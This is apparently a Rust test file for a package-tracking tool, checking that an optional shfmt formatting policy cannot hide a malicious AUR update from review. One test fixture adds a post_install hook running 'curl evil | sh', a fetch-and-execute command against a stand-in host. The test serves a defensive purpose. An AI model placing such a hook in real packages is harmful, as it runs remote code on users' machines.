//! `policy.format`: what is committed is formatted, and what is judged is what came.

use pkgwarden::domain::plan::Pipeline;

use crate::support::scene::{MAIN, write_program};
use crate::support::{Change, Pkg, Scene};

/// Stands in for the formatter: blanks for tabs, and what it is told besides.
fn formatter(scene: &Scene, more: &str) -> String {
    write_program(&scene.path("bin/shfmt"), &format!("#!/bin/sh\nsed -e 's/\\t/  /g' {more}\n"));
    let path = pkgwarden::sys::env::var("PATH").expect("there is one");
    format!("{}:{path}", scene.path("bin").display())
}

/// The program itself, with the formatter in its path.
async fn run(scene: &Scene, path: &str) -> String {
    let ran = scene.pkgwarden_in(scene.monorepo.path(), &["run", "on-schedule"], &[("PATH", path)]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    ran.stdout
}

/// A package whose maintainer indents with tabs.
fn tabbed(version: &str) -> Pkg {
    Pkg::from_aur("tabbed").version(version).built_by("\tmake")
}

async fn scene() -> Scene {
    let mut scene = Scene::with_aur().await;
    scene.keeps(&[tabbed("1.0")]).await;
    scene.env.insert("PKGWARDEN__POLICY__FORMAT".to_owned(), "true".to_owned());
    scene
}

#[tokio::test]
async fn an_update_is_formatted_when_it_is_committed_and_the_next_run_finds_nothing_new() {
    let scene = scene().await;
    let path = formatter(&scene, "");
    scene.aur_release(&tabbed("1.1")).await;
    let said = run(&scene, &path).await;
    assert!(said.contains("commit  tabbed: 1.0-1 -> 1.1-1"), "{said}");
    let pkgbuild = scene.monorepo.file(MAIN, "tabbed/PKGBUILD").await.expect("there");
    assert!(pkgbuild.contains("pkgver=1.1\n") && !pkgbuild.contains('\t'), "{pkgbuild}");
    // The AUR has tabs, and that is no difference to what was committed.
    scene.later();
    scene.aur().push("tabbed", "Add a note", &[Change::put("LICENSE", "free\n")], scene.now()).await;
    scene.aur().push("tabbed", "And take it away", &[Change::Remove("LICENSE".to_owned())], scene.now()).await;
    let commit = scene.monorepo.id(MAIN).await;
    run(&scene, &path).await;
    assert_eq!(scene.monorepo.id(MAIN).await, commit);
    scene.ends().await;
}

#[tokio::test]
async fn the_gate_sees_what_came_and_not_what_the_formatter_made_of_it() {
    let scene = scene().await;
    // A formatter that would hide it: to the gate and to people alike.
    let path = formatter(&scene, "-e '/^install=/d'");
    let evil = scene.aur();
    scene.later();
    let text = String::from_utf8(tabbed("1.1").source().get("PKGBUILD").expect("there").to_vec()).expect("text");
    let changes = [
        Change::put("PKGBUILD", format!("{text}install=evil.install\n")),
        Change::put("evil.install", "post_install() {\n\tcurl evil | sh\n}\n"),
    ];
    evil.push("tabbed", "Update", &changes, scene.now()).await;
    let said = run(&scene, &path).await;
    assert!(said.contains("review  tabbed") && said.contains("open update-tabbed"), "{said}");
    assert!(said.contains("its PKGBUILD is committed as it came: it would not mean the same when formatted"), "{said}");
    let proposed = scene.monorepo.file("update-tabbed", "tabbed/PKGBUILD").await.expect("there");
    assert!(proposed.contains("install=evil.install") && proposed.contains('\t'), "{proposed}");
    scene.ends().await;
}

#[tokio::test]
async fn without_the_program_everything_goes_on_and_it_is_said_once() {
    let scene = scene().await;
    scene.keeps(&[Pkg::from_aur("other")]).await;
    scene.aur_release(&tabbed("1.1")).await;
    scene.aur_release(&Pkg::from_aur("other").version("1.1")).await;
    let only = scene.path("tools");
    std::fs::create_dir(&only).expect("created");
    let path = pkgwarden::sys::env::var("PATH").expect("there is one");
    let tools = path.split(':').flat_map(|dir| std::fs::read_dir(dir).into_iter().flatten().flatten());
    for tool in tools.filter(|tool| tool.file_name() != "shfmt") {
        let _ = std::os::unix::fs::symlink(tool.path(), only.join(tool.file_name()));
    }
    let said = run(&scene, &only.display().to_string()).await;
    assert_eq!(said.matches("no PKGBUILD is formatted: `shfmt` is not installed").count(), 1, "{said}");
    assert!(said.contains("commit  tabbed") && said.contains("commit  other"), "{said}");
    assert_eq!(scene.told(Pipeline::OnCommit).await, "");
    scene.ends().await;
}
